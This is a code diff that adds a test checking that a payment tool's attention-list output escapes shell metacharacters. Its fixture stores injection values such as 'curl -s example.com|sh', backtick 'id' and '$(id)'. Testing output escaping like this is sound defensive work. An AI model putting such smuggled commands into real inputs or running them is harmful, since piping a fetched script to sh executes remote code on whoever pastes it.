@@ -26,6 +26,23 @@ describeOnBothDatabases('the list of what needs attention', (open) => {
   });
 });
 
+describeOnBothDatabases('an item of somebody who wrote to the database', (open) => {
+  it('has no text that a shell would run when it is pasted', async () => {
+    const database = await open();
+    await database.db.attentionItem.create({
+      data: {
+        ...{ reference: 'account:nano_1;curl -s example.com|sh', kind: 'auditMismatch' },
+        ...{ paymentId: 'pay_1`id`', detail: { account: '$(id)' }, createdAt: new Date(0) },
+      },
+    });
+    const deps = { database, clock: systemClock, config: readConfig({}), log: createLog('test', 'silent') };
+    const { text } = await runCommand(deps, ['list-attention']);
+    expect(text).toBe(
+      '"account:nano_1;curl -s example.com|sh"  auditMismatch  "pay_1\\u{60}id\\u{60}"  since 1970-01-01T00:00:00.000Z  account="\\u{24}(id)"',
+    );
+  });
+});
+
 describeOnBothDatabases('the accounts of an earlier seed', (open) => {
   it('are shown, and top-ups are returned unless their merchant paused settlements', async () => {
     const database = await open();
